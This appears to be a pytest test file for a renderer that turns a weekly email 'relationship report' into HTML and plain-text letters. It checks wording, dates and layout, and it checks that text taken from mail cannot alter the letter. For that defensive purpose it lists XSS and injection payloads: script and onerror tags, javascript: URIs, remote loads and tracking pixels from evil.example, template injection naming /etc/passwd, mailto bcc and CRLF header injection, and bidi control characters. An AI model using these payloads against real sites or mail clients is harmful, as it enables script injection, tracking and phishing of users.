"""The letter: what it says, how it stays harmless, and that both halves agree."""

from __future__ import annotations

import dataclasses
import re
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.report.render import COLUMNS, render_letter
from flows.report.safe_text import LONGEST, is_plain_address, readable
from flows.report.weekly import WeeklyReport
from letter_example import QUIET_REPORT, RELATIONSHIPS, REPORT

GOLDEN = Path(__file__).parent / "golden"

# Gmail shows "[Message clipped]" behind this.
GMAIL_CLIPS_AT = 102_000

TAGS = frozenset(
    {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "table",
        "tr",
        "td",
        "th",
        "div",
        "span",
        "a",
        "h2",
        "br",
    }
)
ATTRIBUTES = frozenset(
    {
        "lang",
        "charset",
        "name",
        "content",
        "class",
        "style",
        "role",
        "aria-label",
        "width",
        "height",
        "align",
        "valign",
        "cellpadding",
        "cellspacing",
        "border",
        "bgcolor",
        "href",
        "colspan",
    }
)

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>open</a>",
    "<a href=https://evil.example>your bank</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>ok",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=https://evil.example/x.swf>",
    '" onmouseover="alert(1)',
    "' style='background:url(https://evil.example/x)' x='",
    "x; background-image: url(https://evil.example/x)",
    "--><script>alert(1)</script><!--",
    "<![endif]--><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{# x #}",
    "%(x)s {0} {page.__class__} ${x}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "victim@bank.example?bcc=evil@evil.example&body=x",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
)

# Fields that a view fills with one of its own words, never with text from mail.
OWN_WORDS = frozenset({"time_zone", "direction", "last_direction", "outcome", "role"})


def with_text(value: Any, say: Callable[[str], str], name: str = "") -> Any:
    """``value`` with every text from outside replaced by ``say`` of it, however deep."""
    if isinstance(value, str):
        return value if name in OWN_WORDS else say(value)
    if isinstance(value, tuple):
        return tuple(with_text(item, say, name) for item in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return dataclasses.replace(
            value,
            **{
                field.name: with_text(getattr(value, field.name), say, field.name)
                for field in dataclasses.fields(value)
            },
        )
    return value


def words_of(html: str) -> str:
    """What a reader sees of it, in one line."""
    (body,) = lxml.html.fromstring(html).iter("body")
    return " ".join(" ".join(str(words) for words in body.itertext()).split())


def one_line(text: str) -> str:
    """The plain text letter without its line breaks and quotation bars."""
    return " ".join(re.sub(r"(?m)^ {4}\| ", " ", text).split())


# --- what it says ----------------------------------------------------------------------


@pytest.mark.parametrize("half", ["html", "text"])
def test_the_letter_is_the_one_that_was_looked_at(half: str) -> None:
    """Golden: ``python tests/letter_example.py`` writes it anew, a person looks at it."""
    name = {"html": "letter.html", "text": "letter.txt"}[half]
    assert getattr(render_letter(REPORT), half) == (GOLDEN / name).read_text(encoding="utf-8")


def test_the_subject_is_constant_but_for_the_week() -> None:
    """Nothing from mail can reach a header."""
    assert render_letter(REPORT).subject == "Relationship report, week 47"
    assert render_letter(with_text(REPORT, lambda _: "x\r\nBcc: evil@evil.example")).subject == (
        "Relationship report, week 47"
    )


def test_both_halves_tell_the_same_facts() -> None:
    """Every name, question, subject and reason that one half shows, the other shows."""
    letter = render_letter(REPORT)
    html, text = words_of(letter.html), one_line(letter.text)
    facts = [row.label for row in REPORT.numbers]
    facts += [row.reason for row in REPORT.relationships]
    facts += [str(row.full_name) for row in REPORT.relationships]
    facts += [f"“{row.last_subject}”" for row in REPORT.fading]
    facts += [row.question for row in REPORT.owed_replies if row.question]
    facts += [row.question for row in REPORT.awaited_replies if row.question]
    facts += [row.email for row in (*REPORT.owed_replies, *REPORT.awaited_replies)]
    facts += [row.reason for row in REPORT.introductions]
    facts += [row.text for row in REPORT.promises]
    facts += [row.summary for row in REPORT.follow_ups_due]
    facts += [row.quote for row in REPORT.pitches if row.quote and row.confidence > 0.6]
    facts += ["was due Fri 20 Nov", "6,214 messages", "larger than 25 MB", "rapport sql"]
    assert [fact for fact in facts if fact not in html] == []
    assert [fact for fact in facts if fact not in text] == []


def test_the_opening_names_the_tie_that_matters_most() -> None:
    """The first two lines are enough for one who reads no more."""
    text = one_line(render_letter(REPORT).text)
    assert (
        "Dear Ingrid, If you write to one person this week, let it be Marta Lindqvist: "
        "7 weeks quiet; you two used to talk every 9 days. Three more ties are going quiet, "
        "three letters wait for your reply, one thank-you is due" in text
    )


@pytest.mark.parametrize(
    ("field", "line"),
    [
        (
            "owed_replies",
            "Sébastien Moreau has been waiting for a word from you since Mon 16 Nov. "
            "Two more letters wait for your reply",
        ),
        ("thanks_owed", "Priya Raman opened a door for you"),
        ("follow_ups_due", "Your meeting with Tomás Becker on Tue 17 Nov could do with a word"),
        ("promises", "A promise of yours to Hannah Weiss is still open."),
        ("awaited_replies", "Nobody waits for you; two answers are still to come to you."),
        ("numbers", "A calm week: you were in touch with 23 people, and nobody waits for you."),
        ("help_suggestions", "A quiet week: nobody waits for you."),
    ],
)
def test_the_opening_finds_what_there_is_to_say(field: str, line: str) -> None:
    """Without a fading tie the next debt leads; without any debt the week is calm."""
    letter = render_letter(replace(QUIET_REPORT, **{field: getattr(REPORT, field)}))
    assert line in one_line(letter.text)
    assert line in words_of(letter.html)


def test_sections_with_nothing_to_say_are_left_out() -> None:
    """No heading over an empty list."""
    only_owed = replace(QUIET_REPORT, owed_replies=REPORT.owed_replies)
    letter = render_letter(only_owed)
    headings = [heading.text for heading in lxml.html.fromstring(letter.html).iter("h2")]
    assert headings == ["Waiting for your reply", "What this letter knows"]
    assert "GOING QUIET" not in letter.text


def test_a_long_list_is_cut_and_says_how_to_see_the_rest() -> None:
    """Six of a kind are a letter; the rest is a query."""
    many = tuple(replace(REPORT.owed_replies[0], message_id=str(n)) for n in range(13))
    letter = render_letter(replace(REPORT, owed_replies=many))
    assert 'and 7 more: rapport sql "from owed_replies"' in letter.text
    assert 'and 7 more: rapport sql "from owed_replies"' in words_of(letter.html)


def test_a_guess_accuses_nobody_of_selling() -> None:
    """Doubt falls to the harmless side: a pitch of confidence 0.41 is not shown."""
    letter = render_letter(REPORT)
    assert "Dana Cole" not in letter.text + letter.html
    assert "Brad Kessler" in letter.text


def test_a_pitch_after_rapport_is_no_reproach() -> None:
    """Asking a friend is fine, in both directions."""
    later = tuple(replace(row, is_before_rapport=False) for row in REPORT.pitches)
    assert "EARLY ASK" not in render_letter(replace(REPORT, pitches=later)).text
    assert "ASKED BEFORE" not in render_letter(replace(REPORT, pitches=later)).text


def test_days_are_those_of_the_owner() -> None:
    """23:30 UTC on the 16th is the 17th in Oslo and the 16th in New York."""
    late = replace(REPORT.owed_replies[0], sent_at=datetime(2026, 11, 16, 23, 30, tzinfo=UTC))
    report = replace(REPORT, owed_replies=(late,))
    assert "Since Tue 17 Nov" in render_letter(report).text
    assert "Since Mon 16 Nov" in render_letter(replace(report, time_zone="America/New_York")).text


@pytest.mark.parametrize(
    ("as_of", "days"),
    [
        (date(2026, 11, 22), "16 to 22 November 2026"),
        (date(2026, 11, 16), "16 November 2026"),
        (date(2026, 12, 2), "30 November to 2 December 2026"),
        (date(2027, 1, 3), "28 December 2026 to 3 January 2027"),
    ],
)
def test_the_week_is_shown_up_to_its_last_known_day(as_of: date, days: str) -> None:
    """A letter of a Monday does not claim to know the Sunday."""
    assert render_letter(replace(REPORT, as_of=as_of)).text.splitlines()[1] == days


def test_a_person_without_a_name_is_shown_by_address() -> None:
    """And not twice, where the log puts the address in the name's place."""
    nameless = tuple(
        replace(row, full_name=name)
        for row, name in zip(REPORT.owed_replies, (None, "", row_email(REPORT, 2)), strict=True)
    )
    text = render_letter(replace(REPORT, owed_replies=nameless)).text
    for row in nameless:
        assert f"  * {row.email}\n" in text


def row_email(report: WeeklyReport, position: int) -> str:
    return report.owed_replies[position].email


def test_a_name_never_hides_the_address_behind_it() -> None:
    """A display name that is somebody else's address stands beside the true one."""
    spoof = replace(REPORT.owed_replies[0], full_name="ceo@trusted.example", email="x@evil.example")
    letter = render_letter(replace(REPORT, owed_replies=(spoof,)))
    assert "ceo@trusted.example <x@evil.example>" in letter.text
    assert "ceo@trusted.example x@evil.example" in words_of(letter.html)


def test_health_is_said_in_words_and_not_by_colour_alone() -> None:
    """A reader who sees no colour reads the number and the status."""
    html = words_of(render_letter(REPORT).html)
    assert "health 38 cooling" in html
    assert "cooling: 7 weeks quiet; you two used to talk every 9 days 38 \N{MINUS SIGN}31" in html


@pytest.mark.parametrize(
    ("direction", "names", "words"),
    [
        ("by_me", ("Ana", "Tom", "Ida"), "You introduced Ana, Tom and Ida"),
        ("to_me", ("Ana",), "Introduced you to Ana on Thu 5 Nov."),
        ("to_me", (), "Introduced you to somebody on Thu 5 Nov."),
        ("asked_of_me", ("Ana",), "You were asked for an introduction to Ana"),
        ("asked_by_me", (), "You asked for an introduction to somebody"),
        ("self", ("Ana",), "Ana wrote to make your acquaintance"),
    ],
)
def test_each_direction_of_an_introduction_has_its_words(
    direction: Any, names: tuple[str, ...], words: str
) -> None:
    """Who brought whom together is never turned round."""
    row = replace(REPORT.introductions[0], direction=direction, introduced_names=names)
    assert words in render_letter(replace(QUIET_REPORT, introductions=(row,))).text


def test_my_introducing_myself_is_mine() -> None:
    """I wrote to Ana, not Ana to me."""
    row = replace(
        REPORT.introductions[0], direction="self", introduced_names=("Ana",), is_mine=True
    )
    text = render_letter(replace(QUIET_REPORT, introductions=(row,))).text
    assert "You wrote to make the acquaintance of Ana" in text


def test_what_was_said_to_two_is_said_once() -> None:
    """One promise, question or meeting with two people is one entry that names both."""
    promise, question = REPORT.promises[0], REPORT.awaited_replies[0]
    meeting = REPORT.follow_ups_due[0]
    ana: Any = {"person_id": 99, "full_name": "Ana Reis", "email": "ana@reis.example"}
    report = replace(
        QUIET_REPORT,
        promises=(promise, replace(promise, **ana)),
        awaited_replies=(question, replace(question, **ana)),
        follow_ups_due=(meeting, replace(meeting, **ana)),
    )

    letter = render_letter(report)

    for text in (one_line(letter.text), words_of(letter.html)):
        for words in (promise.text, question.question or "", meeting.summary):
            assert text.count(words) == 1
        assert text.count("Ana Reis") == 3
        assert "One promise of yours is open." in text


def test_a_meeting_of_many_is_no_list_of_guests() -> None:
    """Three are named, the others are counted."""
    meeting = REPORT.follow_ups_due[0]
    guests = tuple(replace(meeting, person_id=n, full_name=f"Guest {n}") for n in range(1, 9))

    text = one_line(render_letter(replace(QUIET_REPORT, follow_ups_due=guests)).text)

    assert "Guest 3 <" in text
    assert "Guest 4" not in text
    assert "And five others." in text


def test_an_unknown_score_is_no_zero() -> None:
    """A new tie has a dash for its health and no trend."""
    new = tuple(tie for tie in RELATIONSHIPS if tie.health is None)
    text = render_letter(replace(QUIET_REPORT, relationships=new)).text
    assert "       -         ··········▃▆  Marek Dvořák" in text


def test_mail_that_could_not_be_read_is_said_at_the_top() -> None:
    """A letter that may miss things says so before anything else is believed."""
    assert "Some mail could not be read" in render_letter(REPORT).text[:900]
    healthy = tuple(replace(line, last_error=None) for line in REPORT.coverage)
    assert "could not be read" not in render_letter(replace(REPORT, coverage=healthy)).text


def test_folders_in_trouble_lead_the_footer_and_many_are_cut() -> None:
    """Nine folders are eight lines and a command."""
    healthy, broken, _ = REPORT.coverage
    folders = (*(replace(healthy, folder=f"Folder {number}") for number in range(8)), broken)
    text = render_letter(replace(REPORT, coverage=folders)).text
    assert text.index("work, Sent: 2,086 of 2,088") < text.index("work, Folder 0")
    assert "and 1 more folders" not in text
    assert "and 1 more folder: rapport status" in text


def test_plain_text_keeps_its_columns() -> None:
    """72 columns, but for a command that must be copied whole."""
    too_long = [
        line
        for line in render_letter(REPORT).text.splitlines()
        if len(line) > COLUMNS and "rapport sql" not in line
    ]
    assert too_long == []


def test_the_same_report_gives_the_same_letter() -> None:
    """No clock and no randomness in it."""
    assert render_letter(REPORT) == render_letter(REPORT)


# --- how it stays harmless -------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_from_mail_stays_text(text: str) -> None:
    """Hostile words in every field change no tag, no attribute and no style of the letter."""
    benign = with_text(REPORT, lambda _: "calm")
    hostile = with_text(REPORT, lambda _: text)
    expected, found = (
        lxml.html.fromstring(render_letter(report).html) for report in (benign, hostile)
    )

    def shape(root: lxml.html.HtmlElement) -> list[tuple[str, dict[str, str]]]:
        return [(str(node.tag), dict(node.attrib)) for node in root.iter() if node.tag != "a"]

    assert shape(found) == shape(expected)
    assert "://" not in render_letter(hostile).html
    assert not list(found.iter("a"))


def test_the_letter_has_only_known_tags_and_attributes() -> None:
    """No image, no script, no form, nothing remote; links are mailto to plain addresses."""
    letter = render_letter(REPORT)
    root = lxml.html.fromstring(letter.html)
    elements = [node for node in root.iter() if isinstance(node.tag, str)]
    assert {str(node.tag) for node in elements} <= TAGS
    assert {str(name) for node in elements for name in node.attrib} <= ATTRIBUTES
    links = [str(node.get("href")) for node in root.iter("a")]
    assert links
    for link in links:
        scheme, _, address = link.partition(":")
        assert scheme == "mailto"
        assert is_plain_address(address)
    assert not re.search(r"url\s*\(|@import|://|<img|\bsrc=", letter.html)


@pytest.mark.parametrize(
    "address",
    [
        "a?bcc=evil@evil.example",
        "a@b.example?body=x",
        "a%0abcc@b.example",
        "a&b@c.example",
        '"a b"@c.example',
        "a@b.example,c@d.example",
        "javascript:alert(1)@b.example",
    ],
)
def test_an_odd_address_gets_no_link(address: str) -> None:
    """RFC 6068: a question mark in a mailto would write headers of the mail it opens."""
    odd = replace(REPORT.owed_replies[0], email=address)
    letter = render_letter(replace(QUIET_REPORT, owed_replies=(odd,)))
    assert "mailto:" not in letter.html


def test_deceiving_characters_are_gone() -> None:
    """No direction override, no zero width, no control character reaches eye or terminal."""
    trick = "inv\u202eoice\u200b\u2066 \x1b[31mred\x07\u0000 \ufeff\u00ad\U000e0041end\r\n\tof"
    letter = render_letter(with_text(REPORT, lambda _: trick))
    for half in (letter.html, letter.text):
        strange = {c for c in half if c != "\n" and unicodedata.category(c)[0] == "C"}
        assert strange == set()
    assert "invoice [31mred end of" in letter.text


def test_web_addresses_from_mail_are_not_shown() -> None:
    """Mail programs turn them into links, and the letter has none."""
    for text in ("see https://evil.example/x?y now", "see www.evil.example/x now"):
        assert readable(text) == "see [link] now"
    assert readable("data: three rows") == "data: three rows"


def test_a_tower_of_accents_is_cut() -> None:
    """Letters keep the few marks that languages use, a prank loses its tower."""
    assert len(readable("a" + "\u0301" * 500)) <= 4
    assert readable("Nguyễn Thị Hằng") == "Nguyễn Thị Hằng"


@pytest.mark.timeout(20)
@pytest.mark.parametrize("character", ["a", ":", "/", "\u0301", "<", "\u202e", " ", "w", "."])
def test_a_megabyte_of_one_character_costs_nothing(character: str) -> None:
    """Every text is cut before it is looked at."""
    long = character * 1_000_000
    letter = render_letter(with_text(REPORT, lambda _: long))
    assert len(letter.html) < 3 * GMAIL_CLIPS_AT


@given(st.text(max_size=600))
def test_readable_text_is_one_visible_line(text: str) -> None:
    """Whatever comes in: no control or invisible character, no web address, never too long."""
    shown = readable(text)
    assert len(shown) <= LONGEST
    assert "\n" not in shown
    assert all(unicodedata.category(character)[0] != "C" for character in shown)
    assert not re.search(r"[a-z]{2}://", shown, re.IGNORECASE)


def test_a_full_letter_is_not_clipped_by_gmail() -> None:
    """Every list at its longest, with texts of the usual length."""
    full = with_every_list_full(REPORT)
    assert len(render_letter(full).html.encode()) < GMAIL_CLIPS_AT


def with_every_list_full(report: WeeklyReport) -> WeeklyReport:
    lists: dict[str, Any] = {
        field.name: tuple(
            replace(row, message_id=f"{row.message_id}-{number}")
            if hasattr(row, "message_id")
            else row
            for number in range(30)
            for row in getattr(report, field.name)
        )
        for field in dataclasses.fields(report)
        if isinstance(getattr(report, field.name), tuple) and field.name != "numbers"
    }
    return replace(report, **lists)
